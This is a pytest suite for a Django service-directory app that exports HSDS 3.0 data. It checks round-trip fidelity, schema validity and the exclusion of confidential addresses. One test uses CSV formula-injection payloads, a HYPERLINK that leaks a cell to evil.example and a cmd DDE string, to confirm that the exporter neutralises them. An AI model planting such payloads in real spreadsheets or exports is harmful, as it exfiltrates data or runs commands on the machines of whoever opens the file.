"""Exporting HSDS 3.0: what leaves, that it round-trips, and the command."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.core.management import call_command

from joinedup.directory import exporter, validation
from joinedup.directory.importer import import_path
from joinedup.directory.models import (
    Attribute,
    Location,
    Organization,
    Service,
    Taxonomy,
    TaxonomyTerm,
)
from joinedup.directory.tests.conftest import SECRET_LAT, SECRET_POSTCODE, SECRET_STREET
from joinedup.directory.tests.test_import import EXAMPLES, FIXTURES

# Every tenth service of the Miami 2019 export, with what hangs from them and the export's
# defects in proportion (`fixtures/miami_sample.py`): the full file's import is
# `test_import`'s; here it would only make the same round trip ten times slower.
MIAMI_SAMPLE = FIXTURES / "miami-211-2019-hsds1-sample.zip"

pytestmark = pytest.mark.django_db


def _empty_directory() -> None:
    for model in (Attribute, Service, Location, Organization, TaxonomyTerm, Taxonomy):
        model.objects.all().delete()


def test_export_then_import_into_an_empty_directory_then_export_gives_the_same_document(
    tmp_path: Path,
) -> None:
    import_path(EXAMPLES / "service_full.json")
    import_path(EXAMPLES / "csv")
    first = tmp_path / "first.json"
    call_command("directory", "export", str(first), stdout=io.StringIO())
    document = json.loads(first.read_text())
    assert document["total_items"] >= 1

    _empty_directory()
    assert not Service.objects.exists()
    report = import_path(first)
    assert report.rejected == []
    second = tmp_path / "second.json"
    call_command("directory", "export", str(second), stdout=io.StringIO())

    assert json.loads(second.read_text()) == document


def test_the_datapackage_round_trips_too(tmp_path: Path) -> None:
    given = import_path(MIAMI_SAMPLE, country="US")
    # The sample has the full export's defects: they stay behind, and what goes in round-trips.
    rejected = {(p.file, p.field) for p in given.rejected}
    assert {("services.csv", "organization_id"), ("eligibility.csv", "service_id")} <= rejected
    assert any("read as '09:00'" in p.reason for p in given.problems)
    assert Location.objects.filter(latitude__isnull=True).exists()
    first = tmp_path / "first.zip"
    exporter.write(first)
    counts = {m: m.objects.count() for m in (Service, Location, Organization, Attribute)}

    _empty_directory()
    report = import_path(first)
    assert report.rejected == []
    assert {m: m.objects.count() for m in counts} == counts
    second = tmp_path / "second.zip"
    exporter.write(second)
    with zipfile.ZipFile(first) as a, zipfile.ZipFile(second) as b:
        for name in a.namelist():
            assert a.read(name) == b.read(name), name


def test_no_confidential_address_and_no_partners_only_listing_leaves(
    tmp_path: Path, world: SimpleNamespace, listed: SimpleNamespace
) -> None:
    document = json.dumps(exporter.json_document())
    files = "".join(text for _, text in exporter.tabular_files())
    for text in (document, files):
        for secret in (SECRET_STREET, SECRET_POSTCODE, str(SECRET_LAT)):
            assert secret not in text
        assert "Riverside refuge" not in text
        assert "Debt clinic for partners" not in text
        assert "Riverside advice drop-in" in text


def test_the_export_is_valid_hsds_3(world: SimpleNamespace, listed: SimpleNamespace) -> None:
    import_path(EXAMPLES / "service_full.json")
    import_path(MIAMI_SAMPLE, country="US")
    document = exporter.json_document()

    assert document["total_items"] > 300
    assert validation.response_errors(document, "/services") == []
    problems = {
        item["id"]: validation.errors(item, "service.json") for item in document["contents"]
    }
    assert {key: found for key, found in problems.items() if found} == {}


def test_the_csv_files_defuse_spreadsheet_formulas_and_read_back_as_they_were(
    tmp_path: Path, world: SimpleNamespace, listed: SimpleNamespace
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    Service.objects.filter(pk=listed.advice.pk).update(name=formula, description="@SUM(A1:A9)")
    Organization.objects.filter(pk=listed.advice.organization_id).update(name="+cmd|' /C calc'!A0")
    files = dict(exporter.tabular_files())
    services = {row["id"]: row for row in csv.DictReader(io.StringIO(files["services.csv"]))}
    row = services[str(listed.advice.pk)]
    assert (row["name"], row["description"]) == ("'" + formula, "'@SUM(A1:A9)")
    organizations = list(csv.DictReader(io.StringIO(files["organizations.csv"])))
    assert "'+cmd|' /C calc'!A0" in [row["name"] for row in organizations]
    # A negative longitude is a number, not a formula: it is written as it is.
    locations = list(csv.DictReader(io.StringIO(files["locations.csv"])))
    assert "-1.7" in [row["longitude"] for row in locations]

    package = tmp_path / "directory.zip"
    exporter.write(package)
    _empty_directory()
    assert import_path(package).rejected == []
    advice = Service.objects.get(pk=listed.advice.pk)
    assert (advice.name, advice.description) == (formula, "@SUM(A1:A9)")
    assert advice.organization.name == "+cmd|' /C calc'!A0"
